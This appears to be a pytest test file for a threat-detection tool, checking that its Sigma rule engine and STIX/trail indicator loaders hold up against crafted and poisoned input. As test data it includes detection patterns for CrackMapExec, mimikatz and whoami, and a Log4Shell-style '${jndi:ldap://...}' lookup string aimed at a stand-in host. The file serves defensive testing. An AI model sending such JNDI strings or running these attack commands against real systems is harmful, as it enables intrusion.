"""What attackers and broken feeds send: crafted command lines against wildcard rules,
poisoned STIX bundles, trail lists with traps, markup in names, lone surrogates. Nothing
stalls, nothing crashes, every refusal is listed."""

from __future__ import annotations

from typing import Any

import pytest

from maat.adapters.forward.alerts import SyslogForwarder, WebhookForwarder
from maat.detect.iocs import IocIndex, load_iocs, load_stix, load_trails
from maat.detect.sigma import Engine, load_rules
from maat.errors import ConfigError

SYSMON = "Microsoft-Windows-Sysmon/Operational"


def proc(**data: Any) -> dict[str, Any]:
    event = {f"winlog.event_data.{k}": v for k, v in data.items()}
    event.update({"winlog.channel": SYSMON, "winlog.event_id": 1})
    return event


def test_crafted_command_line_cannot_stall_a_wildcard_rule() -> None:
    # The shape of SigmaHQ's crackmapexec rule; on a backtracking engine this input takes
    # longer than the test suite (polynomial of degree 4 in its length).
    rule = (
        "title: cme\nlogsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel:\n    CommandLine: 'cmd.exe /Q /c * 1> *h*C$*t 2>&1'\n"
        "  condition: sel\n"
    )
    built = Engine(load_rules([("cme.yml", rule)]))
    assert built.rules, built.problems
    crafted = "cmd.exe /Q /c " + " 1> hC$" * 4000  # 32 KB, what Windows allows
    assert built.match(proc(CommandLine=crafted)) == []
    assert built.match(proc(CommandLine="cmd.exe /Q /c x 1> \\\\h\\C$\\t 2>&1"))


def test_crafted_value_cannot_stall_a_stix_like_pattern() -> None:
    loaded = load_stix({"type": "indicator", "id": "indicator--like",
                        "pattern": "[process:command_line LIKE '%a%a%a%a%b']"}, "s.json")  # fmt: skip
    assert not loaded.problems
    assert IocIndex(loaded).match({"process.command_line": "a" * 50_000}) == []


POISON = [
    ("indicator--startstop", "[file:name = 'x'] START 1 STOP 2"),
    ("indicator--cidr", "[ipv4-addr:value = 'foo/bar']"),
    ("indicator--subset", "[ipv4-addr:value ISSUBSET 'not-a-net']"),
    ("indicator--lookbehind", "[process:command_line MATCHES '(?<=a)b']"),
    ("indicator--deep", "[" + "(" * 5000 + "process:name = 'x'" + ")" * 5000 + "]"),
]


def test_a_poisoned_stix_bundle_is_listed_and_detection_keeps_running() -> None:
    objects: list[Any] = [{"type": "indicator", "id": ident, "pattern": pattern}
                          for ident, pattern in POISON]  # fmt: skip
    objects += [
        {"type": "indicator", "id": "indicator--naive", "pattern": "[file:name = 'y']",
         "valid_from": "2020-01-01T00:00:00"},
        {"type": "indicator", "id": "indicator--labels", "pattern": "[file:name = 'z']",
         "indicator_types": 5},
        {"type": "indicator", "id": "indicator--good", "pattern": "[file:name = 'evil.exe']"},
    ]  # fmt: skip
    loaded = load_stix({"type": "bundle", "objects": objects}, "poison.json")
    reasons = {p.indicator: p.reason for p in loaded.problems}
    assert set(reasons) == {i for i, _ in POISON} | {"indicator--labels"}
    index = IocIndex(loaded)
    event = {"file.name": "evil.exe", "process.name": "x", "process.command_line": "ab",
             "destination.ip": "10.0.0.1", "@timestamp": "2024-01-01T00:00:00Z"}  # fmt: skip
    assert {h.indicator.id for h in index.match(event)} == {"indicator--good"}
    assert IocIndex(load_stix({"type": "bundle", "objects": 5}, "b.json")).problems
    assert len(load_stix({"type": "indicator", "id": "indicator--naive2", "pattern": "[file:name = 'y']",
                          "valid_from": "2020-01-01T00:00:00"}, "n.json")) == 1  # fmt: skip


def test_revoked_and_superseded_indicators_are_not_run() -> None:
    old = {"type": "indicator", "id": "indicator--r", "modified": "2026-01-01T00:00:00Z",
           "pattern": "[domain-name:value = 'evil.example']"}  # fmt: skip
    revoked = {**old, "modified": "2026-02-01T00:00:00Z", "revoked": True}
    loaded = load_stix({"type": "bundle", "objects": [old, revoked]}, "r.json")
    assert len(loaded) == 0 and "revoked" in loaded.problems[0].reason


def test_hashes_and_domains_compare_normalised_inside_complex_patterns() -> None:
    digest = "D41D8CD98F00B204E9800998ECF8427E"
    loaded = load_stix({"type": "indicator", "id": "indicator--h",
                        "pattern": f"[file:hashes.MD5 = '{digest}' AND file:name = 'evil.exe']"},
                       "h.json")  # fmt: skip
    index = IocIndex(loaded)
    assert index.match({"file.hash.md5": digest.lower(), "file.name": "evil.exe"})
    dom = IocIndex(load_stix({"type": "indicator", "id": "indicator--d", "pattern":
        "[domain-name:value = 'Evil.Example.com' OR process:pid = 1]"}, "d.json"))  # fmt: skip
    assert dom.match({"dns.question.name": "evil.example.com."})


def test_trail_traps_are_refused_not_turned_into_match_everything_prefixes() -> None:
    loaded = load_trails("http://\n/\nand/or\nevil.example/payload\n", "t.txt")
    assert [i.value for i in loaded.simple] == ["evil.example/payload"]
    index = IocIndex(loaded)
    assert not index.match({"url.original": "https://good.example/"})
    assert index.match({"url.original": "http://evil.example/payload/x.exe"})
    bom = (
        b"\xef\xbb\xbf"
        + b'{"type":"indicator","id":"indicator--b","pattern":"[file:name = \'b\']"}'
    )
    assert len(load_iocs([("bom.json", bom)])) == 1


def test_forwarder_settings_with_bad_ports_are_config_errors() -> None:
    with pytest.raises(ConfigError):
        WebhookForwarder("http://127.0.0.1:notaport/hook", timeout=1)
    with pytest.raises(ConfigError):
        SyslogForwarder("udp://127.0.0.1:99999", timeout=1)
    with pytest.raises(ConfigError):
        SyslogForwarder("udp://host:abc", timeout=1)


def test_lone_surrogates_in_events_do_not_crash_matching() -> None:
    rule = ("title: t\nlogsource: {product: windows, category: process_creation}\n"
            "detection:\n  sel:\n    CommandLine|contains: 'mimikatz'\n  condition: sel\n")  # fmt: skip
    built = Engine(load_rules([("t.yml", rule)]))
    assert built.match(proc(CommandLine="x\udc80 mimikatz")) != []
    index = IocIndex(load_trails("evil.example\n", "t.txt"))
    assert index.match({"process.command_line": "curl \udc80 evil.example"})


def test_an_event_id_given_as_text_is_routed_once() -> None:
    rule = ("title: t\nlogsource: {product: windows, category: process_creation}\n"
            "detection:\n  sel:\n    CommandLine|contains: 'whoami'\n  condition: sel\n")  # fmt: skip
    built = Engine(load_rules([("t.yml", rule)]))
    event = proc(CommandLine="whoami")
    event["winlog.event_id"] = "1"
    assert len(built.match(event)) == 1


def test_keywords_search_each_value_with_every_modifier() -> None:
    def kw(values: str) -> Engine:
        text = ("title: k\nlogsource: {product: windows, category: process_creation}\n"
                f"detection:\n  keywords:\n{values}\n  condition: keywords\n")  # fmt: skip
        built = Engine(load_rules([("k.yml", text)]))
        assert built.rules, built.problems
        return built

    regex = kw("    '|re': 'FooX.*Bar'")
    assert regex.match(proc(Image="C:\\x\\FooXBar.exe"))
    assert not regex.match(proc(Image="C:\\x\\fooxbar.exe"))  # a regex is case-sensitive
    escaped = kw("    - 'foo\\*bar'")
    assert escaped.match(proc(CommandLine="x foo*bar y")) and not escaped.match(
        proc(CommandLine="fooXbar")
    )
    wildcard = kw("    - 'mimi*'")
    assert wildcard.match(proc(Image="hello", CommandLine="mimikatz.exe"))
    assert kw("    - 7045").match(proc(ServiceCode=7045))


def test_web_keyword_rules_search_access_log_fields() -> None:
    text = ("title: jndi\nlogsource: {category: webserver}\n"
            "detection:\n  keywords:\n    - '${jndi:ldap:'\n  condition: keywords\n")  # fmt: skip
    built = Engine(load_rules([("jndi.yml", text)]))
    event = {"event.dataset": "access_log.nginx", "event.module": "access_log",
             "url.original": "/login", "user_agent.original": "${jndi:ldap://x.example/a}"}  # fmt: skip
    assert built.match(event)
    assert not built.match({**event, "user_agent.original": "curl/8"})


def test_markup_in_rule_titles_does_not_break_lint(tmp_path: Any, capsys: Any) -> None:
    from maat.cli.main import run

    (tmp_path / "r.yml").write_text(
        "title: broken [/red] rule\nlogsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel:\n    CommandLine|re: '(?<!x)y'\n  condition: sel\n"
    )
    assert run(["rules", "lint", str(tmp_path)]) == 1
    assert "broken [/red] rule" in capsys.readouterr().out
